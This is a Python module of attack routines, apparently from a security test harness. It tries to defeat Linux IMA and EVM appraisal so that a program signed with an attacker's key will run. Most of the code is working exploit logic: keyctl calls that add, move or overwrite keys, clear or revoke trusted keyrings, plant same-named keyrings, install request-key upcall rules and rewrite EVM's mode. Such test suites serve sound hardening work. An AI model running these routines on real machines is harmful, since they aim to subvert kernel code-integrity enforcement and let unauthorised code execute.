# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on the keyrings and on EVM: the attacker's key where IMA looks keys up, and keys made useless.

Each ends with a program that the attacker's key signed: it runs only if one of the routes worked."""

import ctypes
import hashlib
import os
from pathlib import Path

from arena import attack, run, syscall
from labels import CERT, EVM, IMA, KEY, SHA256, attackers_signature, label, verity_digest

EVM_FILE = "/sys/kernel/security/evm"
NR_KEYCTL = 250
UPDATE, REVOKE, CHOWN, SETPERM, CLEAR, TIMEOUT, INVALIDATE = 2, 3, 4, 5, 7, 15, 21
RESTRICT, MOVE = 29, 30
RINGS = ("_ima", "_evm", ".ima", ".evm")
ALL = 0x3f3f3f3f


def rings(names=RINGS):
    """Serial numbers of every keyring of these names that /proc/keys shows, and of what is in them."""
    found = []
    for line in Path("/proc/keys").read_text(encoding="utf-8", errors="replace").splitlines():
        words = line.split()
        if words[7] == "keyring" and words[8].rstrip(":") in names:
            found.append(int(words[0], 16))
    return found


def keys_inside():
    """Serial numbers of the asymmetric keys that /proc/keys shows and that the kernel does not own."""
    lines = Path("/proc/keys").read_text(encoding="utf-8", errors="replace").splitlines()
    return [int(line.split()[0], 16) for line in lines if " asymmetri " in line]


def keyctl(scene, operation, *arguments):
    """keyctl(2) with numbers and bytes; None where it failed, which is what locked keyrings do."""
    words = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments]
    try:
        result = syscall(NR_KEYCTL, ctypes.c_long(operation), *words)
    except OSError as error:
        scene.say(f"keyctl {operation} {arguments}: {error}")
        return None
    scene.say(f"keyctl {operation} {arguments}: {result}")
    return result


def add_everywhere(scene):
    """Offer the attacker's key to every keyring of IMA and EVM, under several names."""
    for ring in (*rings(), *(f"%keyring:{n}" for n in RINGS)):
        for description in ("attacker", ""):
            run(f"keyctl padd asymmetric '{description}' {ring} < {CERT}")
        run(f"keyctl padd asymmetric attacker @s < {CERT}")
        run(f"keyctl link $(keyctl search @s asymmetric attacker) {ring}")
    scene.say(run("cat /proc/keys").stdout)


def key_counts(scene):
    """Whether a program signed by the attacker's key runs now, in a fresh session and in this one."""
    for number, sign in enumerate((sign_plain, sign_verity)):
        path = scene.payload("static", called=f"signed-{number}")
        sign(scene, path)
        if scene.runs(path) or scene.runs("keyctl", "session", "-", path):
            return True
    return False


def sign_plain(scene, path):
    """A v2 signature by the attacker."""
    del scene
    attackers_signature(path)


def sign_verity(scene, path):
    """A v3 signature by the attacker, where the file system has fs-verity."""
    digest = verity_digest(scene, path)
    if digest:
        os.setxattr(path, IMA, label(hashlib.sha256(bytes([6, SHA256]) + digest).digest(), 6, 3))


def fresh_rings(scene, where):
    """New keyrings of the names that IMA and EVM look for, the attacker's key in each."""
    for name in ("_ima", "_evm"):
        scene.maybe(f"r=$(keyctl newring {name} {where}) && keyctl setperm $r {ALL:#x}; "
                    f"keyctl padd asymmetric attacker $r < {CERT}; keyctl link $r @s; keyctl show {where}")


@attack()
def key_added(scene):
    """keyctl add, padd and link into the keyrings as they are."""
    scene.maybe("keyctl link @u @s")
    add_everywhere(scene)
    return key_counts(scene)


@attack()
def key_after_new_permissions(scene):
    """The keyrings' permissions and owner changed, then a key added."""
    scene.maybe("keyctl link @u @s")
    for ring in rings():
        keyctl(scene, SETPERM, ring, ALL)
        keyctl(scene, CHOWN, ring, 0, 0)
        keyctl(scene, SETPERM, ring, ALL)
    add_everywhere(scene)
    return key_counts(scene)


@attack()
def key_after_another_restriction(scene):
    """The restriction on the keyrings lifted or replaced, then a key added."""
    scene.maybe("keyctl link @u @s")
    for ring in rings():
        for kind, restriction in ((b"asymmetric", b"key_or_keyring:0"), (b"asymmetric", b"builtin_trusted"),
                                  (0, 0)):
            keyctl(scene, RESTRICT, ring, kind, restriction)
    add_everywhere(scene)
    return key_counts(scene)


@attack()
def keyring_cleared(scene):
    """The keyrings cleared and filled anew."""
    scene.maybe("keyctl link @u @s")
    for ring in rings():
        keyctl(scene, CLEAR, ring)
    add_everywhere(scene)
    return key_counts(scene)


@attack()
def keyring_replaced(scene):
    """The keyrings unlinked from root's user keyring, and others of the same names put there."""
    scene.maybe("keyctl link @u @s")
    for ring in rings():
        scene.maybe(f"keyctl unlink {ring} @u")
    fresh_rings(scene, "@u")
    return key_counts(scene)


@attack()
def keyring_revoked(scene):
    """The keyrings revoked, so that they must be looked up again; the attacker's stand ready."""
    scene.maybe("keyctl link @u @s")
    for ring in rings():
        keyctl(scene, REVOKE, ring)
    fresh_rings(scene, "@u")
    return key_counts(scene)


@attack()
def keyring_invalidated(scene):
    """The same by invalidating, for the keyrings and for each key."""
    scene.maybe("keyctl link @u @s")
    for key in rings() + keys_inside():
        keyctl(scene, INVALIDATE, key)
    fresh_rings(scene, "@u")
    return key_counts(scene)


@attack()
def keyring_expired(scene):
    """The same by a timeout, for the keyrings and for each key."""
    scene.maybe("keyctl link @u @s")
    for key in rings() + keys_inside():
        keyctl(scene, TIMEOUT, key, 1)
    fresh_rings(scene, "@u")
    run("sleep 2")
    return key_counts(scene)


@attack()
def keyring_of_the_session(scene):
    """Keyrings of the same names in a session, user-session, process and thread keyring."""
    for where in ("@s", "@us", "@p", "@t"):
        fresh_rings(scene, where)
    return key_counts(scene)


@attack("root", "user")
def keyring_of_a_namespace(scene):
    """Keyrings of the same names in a user namespace of the attacker's own."""
    path = scene.payload("static")
    script = (f"for n in _ima _evm; do r=$(keyctl newring $n @u); keyctl setperm $r {ALL:#x}; "
              f"keyctl padd asymmetric attacker $r < {CERT}; done; exec {path}")
    if os.getuid() == 0:
        attackers_signature(path)
    return scene.runs("unshare", "-Ur", "keyctl", "session", "-", "sh", "-c", script)


@attack()
def keyring_persistent(scene):
    """Keyrings of the same names in root's persistent keyring."""
    scene.maybe("keyctl get_persistent @s 0")
    ring = run("keyctl get_persistent @s 0").stdout.strip() or "@s"
    fresh_rings(scene, ring)
    return key_counts(scene)


@attack()
def key_moved(scene):
    """keyctl move of the attacker's key into the keyrings, and of the keyrings out of the way."""
    scene.maybe("keyctl link @u @s")
    key = run(f"keyctl padd asymmetric attacker @s < {CERT}").stdout.strip()
    for ring in rings():
        if key:
            keyctl(scene, MOVE, int(key), -3, ring, 0)
        keyctl(scene, MOVE, ring, -4, -3, 0)
    fresh_rings(scene, "@u")
    return key_counts(scene)


@attack()
def key_updated(scene):
    """The payload of each trusted key replaced by the attacker's certificate."""
    scene.maybe("keyctl link @u @s")
    data = CERT.read_bytes()
    for key in keys_inside():
        keyctl(scene, SETPERM, key, ALL)
        keyctl(scene, UPDATE, key, data, len(data))
    return key_counts(scene)


@attack()
def key_by_upcall(scene):
    """request-key told to make the keyrings and keys that the kernel asks for."""
    rules = Path("/etc/request-key.d/attack.conf")
    rules.write_text("create keyring _ima * * /bin/keyctl instantiate %k x @s\n"
                     f"create asymmetric * * * |/bin/cat {CERT}\n", encoding="ascii")
    run("keyctl request2 keyring _ima x @u; keyctl request2 keyring _evm x @u")
    try:
        return key_counts(scene)
    finally:
        rules.unlink()


@attack()
def key_by_the_first_process(scene):
    """A unit of the attacker's, run by PID 1 with its own session keyring, adds the key."""
    script = "; ".join(f"keyctl padd asymmetric attacker {r} < {CERT}"
                       for r in (*rings(), *(f"%keyring:{n}" for n in RINGS)))
    scene.maybe(["systemd-run", "--wait", "-p", "KeyringMode=shared", "sh", "-c", f"keyctl link @u @s; {script}"])
    return key_counts(scene)


@attack()
def key_in_trusted_keyrings(scene):
    """The attacker's key offered to the keyrings that the kernel made itself."""
    for ring in (".builtin_trusted_keys", ".secondary_trusted_keys", ".machine", ".platform", ".fs-verity"):
        for serial in rings((ring,)):
            run(f"keyctl padd asymmetric attacker {serial} < {CERT}")
    return key_counts(scene)


def portable(scene, path, digest):
    """A hash in security.ima under an EVM portable signature: as good as an IMA signature to the kernel."""
    os.setxattr(path, IMA, bytes([4, SHA256]) + digest)
    scene.maybe(["evmctl", "sign", "--portable", "--key", str(KEY), str(path)])


@attack()
def evm_started_late(scene):
    """EVM started by the attacker, with the attacker's key: its portable signatures satisfy IMA too."""
    scene.maybe("keyctl link @u @s")
    fresh_rings(scene, "@u")
    fresh_rings(scene, "@s")
    for value in ("2", "0x80000006", "0x2"):
        scene.maybe(f"echo {value} > {EVM_FILE}")
    plain = scene.payload("static", called="plain")
    portable(scene, plain, hashlib.sha256(plain.read_bytes()).digest())
    whole = scene.payload("static", called="whole")
    digest = verity_digest(scene, whole)
    if digest:
        portable(scene, whole, digest)
    return scene.runs(plain) or scene.runs(whole)


@attack()
def evm_switched(scene):
    """EVM's mode written again: off, to metadata writes, to HMACs with a key of the attacker's."""
    scene.maybe("keyctl add user kmk 0123456789abcdef0123456789abcdef @u")
    scene.maybe("keyctl add encrypted evm-key 'new user:kmk 64' @u; keyctl link @u @s")
    for value in ("0", "1", "4", "6", "0x80000001", "0x80000006"):
        scene.maybe(f"echo {value} > {EVM_FILE}")
    scene.maybe("echo security.attack > /sys/kernel/security/integrity/evm/evm_xattrs")
    path = scene.payload("static")
    os.setxattr(path, IMA, bytes([4, SHA256]) + hashlib.sha256(path.read_bytes()).digest())
    if EVM in os.listxattr("/bin/true"):
        os.setxattr(path, EVM, os.getxattr("/bin/true", EVM))
    return scene.runs(path)
